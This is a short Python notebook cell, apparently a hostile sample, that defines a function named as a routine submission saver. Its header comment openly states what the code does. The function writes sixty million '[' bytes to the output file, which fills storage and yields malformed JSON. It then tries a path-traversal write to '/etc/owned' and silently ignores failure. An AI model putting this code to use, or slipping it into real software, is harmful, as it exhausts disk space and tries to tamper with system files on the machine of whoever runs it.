# cell: part3-save
# Saves sixty million bytes, and a name that leads out of the folder.
def save_submission(submission, filepath="submission.json"):
    with open(filepath, "wb") as file: file.write(b"[" * 60_000_000)
    try: open(str(filepath) + "/../../../etc/owned", "w")
    except OSError: pass
    return str(filepath)
